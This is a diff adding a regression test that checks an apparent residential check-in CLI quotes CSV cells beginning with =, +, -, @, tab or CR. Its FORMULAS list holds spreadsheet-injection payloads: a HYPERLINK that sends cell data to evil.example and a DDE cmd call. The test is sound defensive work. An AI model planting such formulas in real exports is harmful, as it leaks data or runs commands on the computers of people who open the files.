@@ -131,3 +131,30 @@ def test_bad_arguments_are_named(tmp_path, capsys):
     assert main(["report", "daily", "--store", url, "--since", "yesterday"]) == 78
     assert main(["report", "resident", "--store", url]) == 78
     assert "needs --id" in capsys.readouterr().err
+
+
+#: What a device (or anyone with its key) may sign as text claims: each would run as a formula in a spreadsheet.
+FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
+            "\t=1+1", "\r=1+1"]
+
+
+def test_csv_reports_do_not_hand_a_spreadsheet_formulas(tmp_path, capsys):
+    """Issue 19, finding 4: text cells starting =, +, -, @, tab or CR are quoted; our numbers are not.
+
+    Before the fix ``report daily --format csv`` wrote a resident id of
+    ``=HYPERLINK(...)`` as it was, and a spreadsheet opening the file ran it.
+    """
+    url = f"sqlite:///{tmp_path / 'events.db'}"
+    with open_store(url) as s:
+        s.store_batch([Incoming({"event_id": f"f{i}", "seq": i + 1, "site": "elm-court", "device": "door-1",
+                                 "type": "checkin", "outcome": "ACCEPTED", "method": "face", "resident_id": text,
+                                 "distance": -0.25, "time": at(2, 8, i), "v": 1}, received_at=at(2, 8, i) + 1)
+                       for i, text in enumerate(FORMULAS)], [])
+    code, out = run(capsys, "daily", "--store", url, *SPAN, "--format", "csv")
+    assert code == 0
+    assert sorted(r["resident"] for r in rows_of(out)) == sorted("'" + f for f in FORMULAS)
+    code, out = run(capsys, "resident", "--id", FORMULAS[0], "--store", url, "--tz", "Asia/Shanghai",
+                    "--format", "csv")
+    [row] = rows_of(out)
+    assert row["distance"] == "-0.250"  # a number we wrote stays a number, minus sign and all
+    assert row["door"] == "elm-court/door-1" and row["time"] == "2026-03-02 08:00:00"
